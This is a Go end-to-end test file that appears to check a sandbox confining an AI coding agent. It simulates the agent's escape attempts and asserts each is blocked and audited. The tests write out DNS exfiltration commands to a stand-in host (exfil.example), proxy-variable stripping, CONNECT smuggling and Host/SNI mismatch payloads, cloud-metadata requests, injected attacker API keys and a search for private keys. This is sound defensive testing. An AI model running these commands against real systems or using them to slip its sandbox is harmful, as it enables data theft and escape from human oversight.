package e2e

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/moby/moby/client"

	"github.com/bot-bottle/bot-bottle/test/lab"
	"github.com/bot-bottle/bot-bottle/test/standin"
)

// inside runs a script as root in a bottle and returns what it printed.
func (h house) inside(identity, script string) lab.Result {
	h.t.Helper()
	r, err := h.Run(h.t.Context(), nil, "exec", "--root", identity, "--", "sh", "-c", script)
	if err != nil {
		h.t.Fatal(err)
	}
	return r
}

// gVisor reports whether a bottle runs on runsc.
func (h house) gVisor(identity string) bool {
	h.t.Helper()
	if h.on == smolvm {
		return false
	}
	c, err := h.Engine.ContainerInspect(h.t.Context(), "bot-bottle-"+identity+"-agent", client.ContainerInspectOptions{})
	if err != nil {
		h.t.Fatal(err)
	}
	return strings.Contains(c.Container.HostConfig.Runtime, "runsc")
}

// Attack A1, A3, A5: data leaves as labels of a DNS name, asked directly, by a tool that
// everybody allows, or by the proxy on the way to refusing the request. Every such name
// ends as NXDOMAIN in the bottle, and as a line in the audit log.
func TestAttackA1_NamesDoNotLeave(t *testing.T) {
	t.Parallel()
	h := open(t, standin.Options{})
	identity := h.idle()
	for name, script := range map[string]string{
		"look-up":         `getent hosts c2VjcmV0.exfil.example`,
		"curl by name":    `curl -sS --noproxy '*' --max-time 10 https://c2VjcmV0.exfil.example/`,
		"through proxy":   `curl -sS --fail --max-time 10 https://c2VjcmV0.exfil.example/`,
		"plain via proxy": `curl -sS --fail --max-time 10 http://c2VjcmV0.exfil.example/`,
		"ssh":             `ssh -o BatchMode=yes -o ConnectTimeout=5 c2VjcmV0.exfil.example`,
		"git":             `GIT_TERMINAL_PROMPT=0 git ls-remote https://c2VjcmV0.exfil.example/x`,
	} {
		if r := h.inside(identity, script); r.Code == 0 {
			t.Errorf("%s: got success: %s", name, r.Stdout)
		}
	}
	// Last, since the bottle has no resolver after it.
	if r := h.inside(identity, `printf 'nameserver 192.0.2.53\n' > /etc/resolv.conf; getent hosts other.exfil.example`); r.Code == 0 {
		t.Errorf("another server: got success: %s", r.Stdout)
	}
	h.run(0, "", "stop", identity)
	audit, err := os.ReadFile(h.Home + "/state/" + identity + "/audit.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"event":"lookup","decision":"deny"`, `"event":"connect","decision":"deny"`, "c2vjcmv0.exfil.example"} {
		if !strings.Contains(string(audit), want) {
			t.Errorf("the audit log lacks %s:\n%s", want, audit)
		}
	}
}

// Attack A8, A17: the agent's shell drops the proxy variables, or sets NO_PROXY to all.
// What the policy allows works all the same, and what it does not is refused.
func TestAttackA17_WithoutProxyVariables(t *testing.T) {
	t.Parallel()
	h := open(t, standin.Options{})
	identity := h.idle()
	bare := `unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy NO_PROXY no_proxy; `
	if r := h.inside(identity, bare+`curl -sS --fail --max-time 20 https://api.anthropic.com/api/hello`); r.Code != 0 || !strings.Contains(r.Stdout, "hello") {
		t.Errorf("an allowed host without a proxy: got %d %q %q", r.Code, r.Stdout, r.Stderr)
	}
	for _, script := range []string{
		`curl -sS --max-time 10 https://www.example.com/`, `curl -sS --max-time 10 --noproxy '*' http://192.0.2.1/`,
		`NO_PROXY='*' curl -sS --max-time 10 https://api.anthropic.com.evil.example/`, `curl -sS --max-time 10 https://127.0.0.1/`,
		`curl -sS --max-time 10 http://localhost/`, `curl -sS --max-time 10 http://127.64.99.99/`, `curl -sS --max-time 10 http://host.docker.internal/`,
	} {
		if r := h.inside(identity, bare+script); r.Code == 0 {
			t.Errorf("%s: got success: %s", script, r.Stdout)
		}
	}
}

// Attack A11, B1, B2, B3: the proxy is told names and addresses that mean two things.
func TestAttackB2_ProxyIsNotTalkedInto(t *testing.T) {
	t.Parallel()
	h := open(t, standin.Options{})
	identity := h.idle()
	for name, c := range map[string]struct{ script, want string }{
		"address":            {`curl -sS -o /dev/null -w '%{http_connect}' https://169.254.169.254/`, "40"},
		"decimal address":    {`printf 'CONNECT 2130706433:443 HTTP/1.1\r\nHost: x\r\n\r\n' | ` + raw, "HTTP/1.1 40"},
		"NUL":                {`printf 'CONNECT evil.example\0.api.anthropic.com:443 HTTP/1.1\r\nHost: x\r\n\r\n' | ` + raw, "HTTP/1.1 40"},
		"user":               {`printf 'CONNECT api.anthropic.com@evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n' | ` + raw, "HTTP/1.1 40"},
		"suffix":             {`printf 'CONNECT api.anthropic.com.evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n' | ` + raw, "HTTP/1.1 403"},
		"other port":         {`printf 'CONNECT api.anthropic.com:22 HTTP/1.1\r\nHost: x\r\n\r\n' | ` + raw, "HTTP/1.1 403"},
		"two heads":          {`printf 'CONNECT evil.example:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n' | ` + raw, "HTTP/1.1 403"},
		"other SNI":          {`curl -sS --connect-to evil.example:443:api.anthropic.com:443 https://evil.example/ 2>&1; echo`, "alert"},
		"other Host":         {`curl -sS -H 'Host: evil.example' https://api.anthropic.com/api/hello`, "authority_mismatch"},
		"own host":           {`curl -sS -H 'Host: egress.bot-bottle' https://api.anthropic.com/.bot-bottle/v1/ports`, "authority_mismatch"},
		"trailing dot":       {`curl -sS https://api.anthropic.com./api/hello 2>&1`, "response 400"},
		"upper case":         {`curl -sS https://API.Anthropic.COM/api/hello`, "hello"},
		"h2 prior knowledge": {`curl -sS --http2-prior-knowledge --noproxy '*' http://api.anthropic.com/ 2>&1; echo`, "curl: ("},
	} {
		if r := h.inside(identity, c.script); !strings.Contains(r.Stdout, c.want) {
			t.Errorf("%s: got %q %q, want %q", name, r.Stdout, r.Stderr, c.want)
		}
	}
	for _, request := range h.Standin.Requests() {
		if request.Path != "/api/hello" {
			t.Errorf("the upstream was reached with %s %s", request.Method, request.Path)
		}
	}
}

// raw speaks to the proxy without a client in between.
const raw = `bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; timeout 10 dd bs=4096 count=1 status=none <&3'`

// Attack C1: the agent adds a key of its own, to talk to its own account.
func TestAttackC1_OnlyOurKeyArrives(t *testing.T) {
	t.Parallel()
	h := open(t, standin.Options{})
	identity := h.idle()
	script := `curl -sS -H 'Authorization: Bearer sk-ant-attacker' -H 'x-api-key: sk-ant-attacker' -H 'X-API-KEY: again-attacker' \
		-H 'api-key: attacker' -H 'Cookie: session=attacker' 'https://api.anthropic.com/echo?key=attacker&x=1'`
	if r := h.inside(identity, script); r.Code != 0 {
		t.Fatalf("got %d %q", r.Code, r.Stderr)
	} else if strings.Contains(r.Stdout, h.Key) {
		t.Error("the upstream's echo of the real key came through (C3)")
	}
	requests := h.Standin.Requests()
	if len(requests) != 1 {
		t.Fatalf("got %d requests", len(requests))
	}
	arrived := fmt.Sprint(requests[0])
	if strings.Contains(arrived, "attacker") || !strings.Contains(arrived, h.Key) || !strings.Contains(requests[0].Path, "x=1") {
		t.Errorf("the upstream received %v", requests[0])
	}
}

// Attack C13: the CA's key is looked for in the bottle, and another bottle's CA tried.
func TestAttackC13_EachBottleHasItsOwnCA(t *testing.T) {
	t.Parallel()
	h := open(t, standin.Options{})
	one, two := h.idle(), h.idle()
	read := `cat /etc/bot-bottle/ca.pem`
	if a, b := h.inside(one, read).Stdout, h.inside(two, read).Stdout; a == b || !strings.Contains(a, "BEGIN CERTIFICATE") {
		t.Error("two bottles share a CA, or have none")
	}
	if r := h.inside(one, `grep -rIl --exclude-dir=proc --exclude-dir=sys 'PRIVATE KEY-----' /etc /run /opt /home /workspace /tmp /var /root 2>/dev/null`); r.Stdout != "" {
		t.Errorf("private keys in the bottle: %s", r.Stdout)
	}
}

// Attack A15: another container joins the agent's network namespace or volumes by
// name; the engine allows that to the host's users alone. Nothing in the bottle leads to
// the engine, and what the engine says about the containers is what we asked for.
func TestAttackA15_ContainersAreAsTight(t *testing.T) {
	dockerOnly(t, "it looks at containers; what is in a machine is looked at by TestAttackA9_RootFindsNoWayOut")
	t.Parallel()
	h := open(t, standin.Options{})
	identity := h.idle()
	for _, role := range []string{"agent", "sidecar"} {
		c, err := h.Engine.ContainerInspect(t.Context(), "bot-bottle-"+identity+"-"+role, client.ContainerInspectOptions{})
		if err != nil {
			t.Fatal(err)
		}
		host := c.Container.HostConfig
		if host.Privileged || !slices.Contains(host.CapDrop, "ALL") || !slices.Contains(host.SecurityOpt, "no-new-privileges") ||
			len(host.Binds) > 0 || host.PidMode != "" || host.Resources.PidsLimit == nil || host.Resources.Memory == 0 {
			t.Errorf("%s: %+v", role, host)
		}
		if role == "agent" && (host.NetworkMode != "none" || len(host.CapAdd) > 0) {
			t.Errorf("agent: network %s, capabilities %v", host.NetworkMode, host.CapAdd)
		}
		if role == "sidecar" && !host.ReadonlyRootfs {
			t.Error("the bundle's root is writable")
		}
		for _, m := range c.Container.Mounts {
			if m.Type != "volume" {
				t.Errorf("%s: %s is mounted from the host", role, m.Source)
			}
		}
	}
	filter := "2"
	if h.gVisor(identity) {
		filter = "0" // the filter is on gVisor itself
	}
	want := "CapInh: 0000000000000000\nCapPrm: 0000000000000000\nCapEff: 0000000000000000\nCapBnd: 0000000000000000\nCapAmb: 0000000000000000\nNoNewPrivs: 1\nSeccomp: " + filter + "\n"
	if r := h.inside(identity, `grep -E '^(Cap(Eff|Prm|Bnd|Inh|Amb)|NoNewPrivs|Seccomp):' /proc/self/status | tr -s '\t ' ' '`); r.Stdout != want {
		t.Errorf("got %q, want %q", r.Stdout, want)
	}
}

// Attack A16: the sidecar bundle dies. Traffic stops, and the agent is told why.
func TestAttackA16_NoBundleNoTraffic(t *testing.T) {
	t.Parallel()
	h := open(t, standin.Options{})
	identity := h.idle()
	ask := `curl -sS --max-time 30 -w ' %{http_code}' https://api.anthropic.com/api/hello`
	if r := h.inside(identity, ask); !strings.HasSuffix(r.Stdout, "200") {
		t.Fatalf("before: got %q %q", r.Stdout, r.Stderr)
	}
	h.kill(identity, "sidecar")
	before := len(h.Standin.Requests())
	if r := h.inside(identity, ask); r.Code == 0 {
		t.Errorf("after: got %q", r.Stdout)
	}
	if r := h.inside(identity, `curl -sS --max-time 30 --noproxy '*' https://api.anthropic.com/api/hello`); r.Code == 0 {
		t.Errorf("after, without the proxy: got %q", r.Stdout)
	}
	if now := len(h.Standin.Requests()); now != before {
		t.Errorf("%d requests reached the upstream", now-before)
	}
	if r := h.run(0, "", "list"); !strings.Contains(r.Stdout, "cut off") {
		t.Errorf("list says %q", r.Stdout)
	}
}
